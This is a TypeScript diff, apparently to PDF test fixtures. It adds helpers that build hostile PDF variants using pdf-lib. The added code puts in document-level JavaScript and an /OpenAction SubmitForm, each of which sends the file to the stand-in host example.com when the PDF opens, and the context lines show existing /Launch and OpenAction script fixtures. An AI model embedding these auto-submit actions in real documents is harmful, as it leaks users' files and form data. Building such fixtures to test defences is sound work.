@@ -74,6 +74,28 @@ export async function withOpenActionJavaScript(ticket: Uint8Array): Promise<Uint
   return pdf.save();
 }
 
+/**
+ * `ticket` with document-level JavaScript (the /JavaScript name tree, run when the file opens) that
+ * sends the file's form to an address outside.
+ */
+export async function withDocumentJavaScript(ticket: Uint8Array): Promise<Uint8Array> {
+  const pdf = await PDFDocument.load(ticket);
+  pdf.addJavaScript('laheta', 'this.submitForm({ cURL: "https://example.com/kerays", cSubmitAs: "PDF" });');
+  return pdf.save();
+}
+
+/** `ticket` that sends itself to an address outside when it is opened: a /SubmitForm /OpenAction, no script. */
+export async function withOpenActionSubmitForm(ticket: Uint8Array): Promise<Uint8Array> {
+  const pdf = await PDFDocument.load(ticket);
+  const action = pdf.context.obj({
+    S: 'SubmitForm',
+    F: { FS: 'URL', F: PDFString.of('https://example.com/kerays') },
+    Flags: 256, // SubmitPDF: the whole file
+  });
+  pdf.catalog.set(PDFName.of('OpenAction'), pdf.context.register(action));
+  return pdf.save();
+}
+
 /** `ticket` with a link over its first page that starts a program (a /Launch action). */
 export async function withLaunchLink(ticket: Uint8Array): Promise<Uint8Array> {
   const pdf = await PDFDocument.load(ticket);
